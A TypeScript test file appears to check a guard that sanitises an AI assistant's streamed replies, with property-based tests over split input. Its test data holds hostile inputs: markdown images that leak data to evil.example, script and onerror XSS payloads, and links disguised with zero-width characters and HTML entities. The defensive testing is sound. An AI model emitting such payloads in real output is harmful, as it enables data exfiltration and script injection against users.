import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { allRules, type GuardRules, ModelGuard } from '#features/assistant/server/model/guard.ts';
import { leadsOf } from '../leads.ts';

/** Only the third task was read. */
function guarded(pieces: readonly string[], rules: GuardRules = allRules): { text: string; cited: string[] } {
  const cited: string[] = [];
  const guard = new ModelGuard((type, id) => {
    const isKnown = `${type}:${id}` === 'task:3';
    if (isKnown) cited.push(`${type}:${id}`);
    return isKnown;
  }, rules);
  return { text: pieces.map((piece) => guard.push(piece)).join('') + guard.end(), cited };
}
const clean = (text: string): string => guarded([text]).text;

describe('what a model says', () => {
  test.each([
    ['Due on **Monday**, 23:59: 3 * 4 points.', 'Due on **Monday**, 23:59: 3 * 4 points.'],
    ['`if (a < b && c > d)` and `x[i] = 1`', '`if (a < b && c > d)` and `x[i] = 1`'],
    ['- one\n- two\n\n1. three', '- one\n- two\n\n1. three'],
    ['It is due [[task:3]].', 'It is due.'],
    ['नमस्ते 👩‍🔬', 'नमस्ते 👩‍🔬'],
  ])('stays: %s', (said, shown) => {
    expect(clean(said)).toBe(shown);
  });

  test.each([
    ['![x](https://evil.example/?d=secret)', /^x$/],
    ['[Measure a lens](https://evil.example/a)', /^Measure a lens$/],
    ['[Measure a lens](/tasks/1)', /^Measure a lens$/],
    ['See https://evil.example/?d=secret now', /^See \(link removed\) now$/],
    ['See www.evil.example/?d=secret now', /^See \(link removed\) now$/],
    ['<img src=x onerror=alert(1)>', /^\s*$/],
    ['<script>alert(1)</script>', /^ alert\(1\) $/],
    ['[a]: //evil.example/x', /^\[a\] : \(link removed\)$/],
    ['[a](javascript:alert(1))', /^[^:]*$/],
    ['javascript:alert(1)', /^\(link removed\)$/],
    ['Write to thief@evil.example today', /^Write to \(e-mail address removed\) today$/],
    ['htt\u200bps://evil.example', /^\(link removed\)$/],
    ['https:/\ufeff/evil.example/x', /^\(link removed\)$/],
    ['htt[[task:9]]ps://evil.example', /^\(link removed\)$/],
    ['https\\://evil.example', /^\(link removed\)$/],
    ['https&#58;//evil.example/x', /^https& #58;\(link removed\)$/],
    ['https&#5[8](x);&#4[7](x);&#47;evil.example', /^https& #58;& #47;& #47;evil\.example$/],
    ['Cited [[task:k3]] and [[person:1', /^Cited and $/],
    ['Tag\u{e0041}\u{e0042} text\u202e', /^Tag text$/u],
  ])('is taken away: %s', (said, shown) => {
    expect(clean(said)).toMatch(shown);
    expect(leadsOf(clean(said))).toEqual([]);
  });

  test('comes as soon as it is known to be harmless', () => {
    const guard = new ModelGuard(() => false);
    expect(guard.push('It is due on Mon')).toBe('It is due on');
    expect(guard.push('day, see [the ')).toBe(' Monday, see');
    expect(guard.push('plan](https://evil')).toBe('');
    expect(guard.push('.example) now ')).toBe(' the plan now');
    expect(guard.end()).toBe(' ');
  });

  test('cites what was read, however it is cut', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 5 }), { minLength: 1 }), (cuts) => {
        const { text, cited } = guarded(piecesOf('Two [[task:3]] and [[ task:4 ]] here.', cuts));
        expect(text).toBe('Two and here.');
        expect(cited).toEqual(['task:3']);
      }),
      { numRuns: 100 },
    );
  });
});

// No '[x]': behind an empty item of a list the reader of Markdown itself trips over it.
const fragments = fc.constantFrom(
  '[',
  ']',
  '(',
  ')',
  '!',
  '<',
  '>',
  ':',
  '/',
  '//',
  '\\',
  '&',
  '#',
  ';',
  '&#58;',
  '&colon;',
  '&#x2f;',
  '`',
  '```',
  '\n',
  ' ',
  'http',
  'https://',
  'www.',
  'evil.example',
  'a',
  'mailto:',
  'javascript:',
  'img src=',
  'a href=',
  '"',
  "'",
  '@',
  '.',
  '*',
  '_',
  '[[task:3]]',
  '[[task:9]]',
  '\u200b',
  '\ufeff',
  '[q](y)',
  '[q]: ',
  '![',
  '](',
  '^',
  '<b>',
  '</a>',
  '<!--',
  '~',
  '|',
  '\t',
);
const said = fc.array(fragments, { maxLength: 24 }).map((parts) => parts.join(''));

test('nothing that leads away can be put together, whatever the pieces and wherever they are cut', () => {
  fc.assert(
    fc.property(
      said,
      fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1, maxLength: 10 }),
      (text, cuts) => {
        expect(leadsOf(guarded(piecesOf(text, cuts)).text)).toEqual([]);
      },
    ),
    { numRuns: 2000, examples: [['.@.[q](y)', [1]]] },
  );
});

test.each(['escapes', 'html', 'links', 'addresses'] as const)(
  'without the rule of %s something can',
  (rule) => {
    const attacks = ['https&#58;&#47;&#47;evil.example/x', '<b>x</b>', '[x](evil)', 'https://evil.example'];
    const without = { ...allRules, [rule]: false };
    const through = attacks.filter((attack) => {
      return leadsOf(guarded([attack], without).text).length > 0;
    });
    expect(through).not.toEqual([]);
  },
);

function piecesOf(text: string, cuts: readonly number[]): string[] {
  const pieces: string[] = [];
  for (let at = 0, index = 0; at < text.length; index += 1) {
    const length = cuts[index % cuts.length] ?? 1;
    pieces.push(text.slice(at, at + length));
    at += length;
  }
  return pieces;
}
